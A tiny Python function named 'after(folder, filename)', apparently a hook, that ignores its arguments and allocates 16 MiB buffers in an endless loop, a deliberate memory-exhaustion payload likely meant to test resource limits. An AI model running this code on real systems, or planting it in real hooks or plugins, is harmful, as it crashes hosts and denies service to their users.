def after(folder, filename):
    eaten = []
    while True:
        eaten.append(bytearray(b"x" * 2**24))
